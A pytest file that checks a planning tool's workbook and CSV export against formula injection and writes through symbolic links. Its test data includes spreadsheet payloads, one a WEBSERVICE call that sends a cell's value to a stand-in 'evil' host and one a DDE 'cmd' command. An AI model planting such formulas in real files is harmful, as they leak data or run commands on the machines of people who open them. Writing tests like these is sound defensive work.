"""Hostile plan text in the returns ``request`` writes (issue 26): nothing a plan says
becomes a live formula in a workbook or CSV, and no return overwrites another or writes
through a link. Each case is listed in tests/hostile/README.md, "Returns written"."""

from __future__ import annotations

import os
import zipfile
from pathlib import Path

import pytest

from conftest import posix_only
from gitkit import needs_git
from returns_kit import make_plan_repo, read_csv

pytestmark = needs_git
openpyxl = pytest.importorskip("openpyxl")

QUARTER = "Q3-26/27"
FOLDER = "Q3-2026-27"
TITLE = "=1+1"
WORD = '=WEBSERVICE("http://evil/?"&Return!C2)'
LEAD = "=cmd|' /C calc'!A0"
RATIONALE = '=HYPERLINK("http://evil","click")'  # typed by a lead last quarter, collected
MILESTONE = "-2+3"
EVIL = f"""\
plantrack: 1
id: evil
title: Evil plan
financial_year: 2026/27
statuses:
  '{WORD}': on-track
  "@SUM(1)": behind
  Done: completed
themes:
  - id: T1
    title: "+Theme"
    lead: "{LEAD}"
    objectives:
      - id: T1.1
        title: Objective
        actions:
          - id: A1
            title: "{TITLE}"
            due: Q3 26/27
            status: '{WORD}'
            rationale: '{RATIONALE}'
          - id: A2
            title: "Bell \\a and escape \\e[31m"
            lead: "@Head of Finance"
            due: Q4 26/27
          - id: A3
            title: Savings
            lead: "@Head of Finance"
            milestones:
              - id: A2.a
                title: "{MILESTONE}"
                due: Q4 26/27
"""


def plan_repo_with(tmp_path: Path, monkeypatch, text: str) -> Path:
    """A git repo holding ``plans/evil.yaml`` with ``text``; the test runs inside it."""
    return make_plan_repo(tmp_path, monkeypatch, text, name="evil.yaml")


@pytest.fixture
def evil_repo(tmp_path, monkeypatch) -> Path:
    return plan_repo_with(tmp_path, monkeypatch, EVIL)


def written(repo: Path, cli, *args: str) -> list[Path]:
    result = cli("request", "--quarter", QUARTER, "-o", "returns", *args)
    assert result.exit_code == 0, result.output
    return sorted((repo / "returns" / FOLDER).iterdir())


def all_values(book) -> list[str]:
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def test_no_plan_text_becomes_a_formula_in_any_sheet_of_a_workbook(cli, evil_repo):
    paths = written(evil_repo, cli)
    for path in paths:
        with zipfile.ZipFile(path) as book:
            for name in book.namelist():
                xml = book.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, f"{path.name}: {name}"
        loaded = openpyxl.load_workbook(path)
        types = {
            cell.data_type
            for sheet in loaded.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value is not None
        }
        assert types == {"s"}, path.name
    lead = openpyxl.load_workbook(next(p for p in paths if "cmd" in p.name))
    values = all_values(lead)
    # Each hostile text is there, as the text written: the title, the status and the
    # collected rationale in 'Return', the owner in the very hidden record sheet.
    for text in (TITLE, WORD, RATIONALE, LEAD, "+Theme"):
        assert text in values, text
    assert lead["Return"]["C2"].quotePrefix  # stays text even when the cell is edited
    finance = openpyxl.load_workbook(next(p for p in paths if "finance" in p.name))
    assert MILESTONE in all_values(finance) and "@Head of Finance" in all_values(finance)


def test_a_legend_word_like_a_formula_is_offered_as_text_in_the_drop_down(cli, evil_repo):
    (path, *_) = written(evil_repo, cli, "--lead", "cmd")
    words = [row[0] for row in openpyxl.load_workbook(path)["Lists"].iter_rows(values_only=True)]
    # Picking from a list is read as if typed: the apostrophe keeps the word text.
    assert "'" + WORD in words and "'@SUM(1)" in words and "Done" in words
    assert WORD not in words


def test_control_characters_are_shown_not_written_into_a_workbook(cli, evil_repo):
    paths = written(evil_repo, cli)
    finance = openpyxl.load_workbook(next(p for p in paths if "finance" in p.name))
    assert "Bell \\x07 and escape \\x1b[31m" in all_values(finance)


def test_csv_cells_that_start_like_a_formula_get_an_apostrophe(cli, evil_repo):
    paths = written(evil_repo, cli, "--format", "csv")
    rows = read_csv(next(p for p in paths if "cmd" in p.name))
    cells = [cell for row in rows for cell in row]
    finance = read_csv(next(p for p in paths if "finance" in p.name))
    cells += [cell for row in finance for cell in row]
    for text in (TITLE, WORD, RATIONALE, MILESTONE, "+Theme"):
        assert "'" + text in cells and text not in cells, text
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "Bell \\x07 and escape \\x1b[31m" in cells


def test_csv_to_stdout_is_neutralised_too(cli, evil_repo):
    result = cli("request", "--quarter", QUARTER, "-o", "-", "--format", "csv", "--lead", "cmd")
    assert result.exit_code == 0, result.output
    assert "'=1+1" in result.stdout and ",=" not in result.stdout


LEADS = ("Head of Housing", "Head of Housing!", "Head of Housing 2", "HEAD OF HOUSING")


def three_leads() -> str:
    actions = "".join(
        f"""\
          - id: A{n}
            title: Item {n}
            lead: "{lead}"
            due: Q3 26/27
"""
        for n, lead in enumerate(LEADS, start=1)
    )
    return f"""\
plantrack: 1
id: housing
title: Housing
financial_year: 2026/27
themes:
  - id: T1
    title: Homes
    objectives:
      - id: T1.1
        title: Homes
        actions:
{actions}"""


def test_leads_whose_names_slug_alike_get_a_file_each(cli, tmp_path, monkeypatch):
    repo = plan_repo_with(tmp_path, monkeypatch, three_leads())
    paths = written(repo, cli)
    assert len(paths) == len(LEADS)
    owners = {}
    for path in paths:
        record = openpyxl.load_workbook(path)["plantrack"]
        meta = {row[0]: row[1] for row in record.iter_rows(values_only=True) if row[0]}
        owners[meta["owner"]] = path.name
    assert sorted(owners) == sorted(LEADS)
    # Distinct ignoring case too (a Windows or macOS folder), and the same names when
    # one lead is asked alone: each is made from the exact name, not the run.
    assert len({name.casefold() for name in owners.values()}) == len(LEADS)
    for lead, name in owners.items():
        result = cli("request", "-q", QUARTER, "--lead", lead, "-n")
        assert f"  {name}: 1 row(s) for {lead}" in result.stdout.splitlines(), lead


@posix_only
def test_force_never_writes_through_a_symlinked_return(cli, tmp_path, monkeypatch):
    repo = plan_repo_with(tmp_path, monkeypatch, three_leads())
    paths = written(repo, cli)
    victim = tmp_path / "victim.txt"
    victim.write_bytes(b"precious")
    planted = paths[0]
    planted.unlink()
    planted.symlink_to(victim)
    before = {p: p.read_bytes() for p in paths[1:]}
    result = cli("request", "--quarter", QUARTER, "-o", "returns", "--force")
    assert result.exit_code == 1
    assert "symbolic link" in result.output and planted.name in result.output
    assert victim.read_bytes() == b"precious" and planted.is_symlink()
    assert {p: p.read_bytes() for p in paths[1:]} == before  # refused whole: nothing written


@posix_only
def test_the_writer_refuses_a_link_it_is_told_not_to_follow(tmp_path):
    from plantrack.errors import PlantrackError
    from plantrack.fileio import write_atomically

    victim = tmp_path / "victim.txt"
    victim.write_bytes(b"precious")
    link = tmp_path / "return.xlsx"
    os.symlink(victim, link)
    with pytest.raises(PlantrackError, match="symbolic link"):
        write_atomically(link, b"return", follow_links=False)
    assert victim.read_bytes() == b"precious"
